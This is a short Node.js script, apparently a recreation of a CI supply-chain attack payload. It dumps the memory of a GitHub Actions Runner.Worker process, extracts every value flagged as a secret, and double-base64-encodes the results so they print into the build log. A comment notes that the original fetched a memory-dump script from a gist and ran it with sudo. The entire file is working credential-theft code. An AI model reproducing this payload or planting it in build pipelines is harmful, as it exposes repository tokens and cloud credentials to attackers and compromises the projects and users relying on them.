const { execFileSync } = require('node:child_process');

// The real one was a script in base64 that fetched memdump.py from a gist and ran it with `sudo python3`; where the runner's user is the worker's own, no sudo is needed.
const script = String.raw`
memdump=$(mktemp --suffix=.cjs)
cat >"$memdump" <<'EOF'
const fs = require('node:fs');
const pid = fs.readdirSync('/proc').find((name) => /^\d+$/.test(name) && fs.readFileSync('/proc/' + name + '/cmdline').includes('Runner.Worker'));
const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
  const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? [];
  if (from === undefined) continue;
  const chunk = Buffer.alloc(parseInt(to, 16) - parseInt(from, 16));
  try { fs.writeSync(1, chunk, 0, fs.readSync(memory, chunk, 0, chunk.length, parseInt(from, 16))); } catch {}
}
EOF
values=$(node "$memdump" | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0 | base64 -w 0)
echo "$values"
`;
execFileSync('bash', ['-c', script], { stdio: 'inherit' });
